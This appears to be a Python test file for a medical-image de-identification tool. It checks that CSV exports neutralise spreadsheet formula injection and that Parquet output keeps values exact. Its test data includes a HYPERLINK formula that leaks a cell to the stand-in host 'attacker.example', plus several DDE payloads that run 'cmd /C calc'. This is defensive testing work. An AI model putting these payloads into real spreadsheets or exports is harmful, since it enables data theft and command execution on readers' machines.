"""CSV exports cannot attack their readers: a cell a spreadsheet would run as a formula gets a
leading apostrophe (numbers such as ``-2.5`` stay as they are), Parquet keeps every value
exactly, and reading a CSV back gives the Parquet values."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from deid.cli import main
from deid.consensus.store import DecisionStore
from deid.outputs.export import (
    guard_formulas,
    read_csv_table,
    read_parquet_table,
    table_bytes,
    unguard_formulas,
    write_tables,
)
from tests import badinput

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
#: value -> what the CSV cell must hold
CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-x", "'-x"),
    ("'=1+1", "''=1+1"),  # already an apostrophe: one more, so reading back is exact
    ("-2.5", "-2.5"),
    ("+3", "+3"),
    ("-1e5", "-1e5"),
    ("-", "-"),
    ("a=b", "a=b"),
    ("Doe^Jane", "Doe^Jane"),
    ("", ""),
]

#: A cell a spreadsheet runs: first character =, +, -, @, tab or CR, and not a plain number.
_NUMBER = re.compile(r"[+-](\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def runs_as_formula(cell: str) -> bool:
    if not cell:
        return False
    if cell[0] in "=@\t\r":
        return True
    return cell[0] in "+-" and len(cell) > 1 and _NUMBER.fullmatch(cell) is None


def _csv_cells(data: bytes, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(data.decode("utf-8"),
                                                              newline=""))]


@pytest.mark.parametrize(("value", "cell"), CELLS)
def test_each_cell(value: str, cell: str) -> None:
    guarded = guard_formulas(pa.table({"a": [value]}))
    assert guarded["a"].to_pylist() == [cell]
    assert unguard_formulas(guarded)["a"].to_pylist() == [value]


def test_dictionary_columns_are_guarded_like_text() -> None:
    values = [value for value, _ in CELLS]
    table = pa.table({"d": pa.array(values).dictionary_encode(), "n": range(len(values))})
    guarded = guard_formulas(table)
    assert guarded["d"].to_pylist() == [cell for _, cell in CELLS]
    assert guarded["n"].to_pylist() == list(range(len(values)))


@given(st.lists(st.one_of(st.none(), st.text(max_size=12),
                          st.sampled_from([v for v, _ in CELLS]))))
def test_no_guarded_cell_runs_and_reading_back_is_exact(values: list[str | None]) -> None:
    table = pa.table({"a": pa.array(values, pa.string())})
    guarded = guard_formulas(table)
    assert not any(runs_as_formula(v) for v in guarded["a"].to_pylist() if v is not None)
    assert unguard_formulas(guarded).equals(table)


def test_written_tables_guard_csv_and_keep_parquet_exact(tmp_path: Path) -> None:
    values = [value for value, _ in CELLS]
    frame = __import__("pandas").DataFrame({
        "profile_id": "p", "tag": [f"(0010,{i:04x})" for i in range(len(values))],
        "keyword": "PatientName", "name": "x", "vr": "PN", "retired": False,
        "action": "keep", "effect": "keep", "explicit": True, "reason": values,
        "source": values})
    write_tables({"profile_actions": frame}, tmp_path)
    cells = _csv_cells((tmp_path / "profile_actions.csv").read_bytes(), "reason")
    assert cells == [cell for _, cell in CELLS]
    assert not any(runs_as_formula(cell) for cell in cells)
    parquet = read_parquet_table(tmp_path / "profile_actions.parquet")
    assert parquet["reason"].tolist() == values
    back = read_csv_table(tmp_path / "profile_actions.csv", "profile_actions")
    assert back["reason"].tolist() == values and back["source"].tolist() == values


def test_header_values_in_a_scan(tmp_path: Path) -> None:
    """A header value planted in a file is guarded in headers.csv (streamed batch by batch)
    and exact in headers.parquet."""
    ds = badinput.base_dataset()
    ds.StudyDescription = HYPERLINK
    ds.SliceThickness = "-2.5"
    path = tmp_path / "in" / "planted.dcm"
    path.parent.mkdir()
    ds.save_as(path, enforce_file_format=True)
    out = tmp_path / "out"
    assert main(["scan", str(path), "--out", str(out), "--include-values", "--workers", "1"],
                stdout=io.StringIO(), stderr=io.StringIO()) == 0
    rows = list(csv.DictReader((out / "headers.csv").open(encoding="utf-8", newline="")))
    by_keyword = {row["keyword"]: row["value"] for row in rows}
    assert by_keyword["StudyDescription"] == "'" + HYPERLINK
    assert by_keyword["SliceThickness"] == "-2.5"
    assert not any(runs_as_formula(row[c]) for row in rows for c in row)
    parquet = read_parquet_table(out / "headers.parquet").set_index("keyword")
    assert parquet.loc["StudyDescription", "value"] == HYPERLINK
    back = read_csv_table(out / "headers.csv", "headers").set_index("keyword")
    assert back.loc["StudyDescription", "value"] == HYPERLINK


def test_profile_reasons_in_a_comparison(tmp_path: Path) -> None:
    profile = tmp_path / "hostile.toml"
    profile.write_text(
        'schema_version = 1\nid = "hostile"\ntitle = "Hostile"\nprovenance = "user"\n'
        'unlisted = "keep"\nprivate_tags = "keep"\n\n[[rules]]\ntag = "(0010,0010)"\n'
        f"action = \"remove\"\nreason = '{HYPERLINK}'\nsource = '@SUM(A1:A9)'\n",
        encoding="utf-8")
    out = tmp_path / "out"
    assert main(["compare", "--profiles", f"{profile},ps315_basic", "--out", str(out)],
                stdout=io.StringIO(), stderr=io.StringIO()) == 0
    rows = [row for row in csv.DictReader((out / "profile_actions.csv").open(
        encoding="utf-8", newline="")) if row["profile_id"] == "hostile"
        and row["tag"] == "(0010,0010)"]
    assert rows[0]["reason"] == "'" + HYPERLINK
    assert rows[0]["source"] == "'@SUM(A1:A9)"
    parquet = read_parquet_table(out / "profile_actions.parquet")
    row = parquet[(parquet["profile_id"] == "hostile") & (parquet["tag"] == "(0010,0010)")]
    assert row["reason"].iloc[0] == HYPERLINK


def test_decision_reasons_in_the_decisions_table(tmp_path: Path) -> None:
    store = DecisionStore(tmp_path)
    store.decide("c1", "(0010,0040)", decider="@Ada", action="keep", reason=HYPERLINK)
    table = store.decisions_table("c1")
    cells = _csv_cells(table_bytes("decisions", table, "csv"), "reason")
    assert cells == ["'" + HYPERLINK]
    deciders = _csv_cells(table_bytes("decisions", table, "csv"), "decider")
    assert deciders == ["'@Ada"]
    parquet = pq.read_table(pa.BufferReader(table_bytes("decisions", table, "parquet")))
    assert parquet["reason"].to_pylist() == [HYPERLINK]
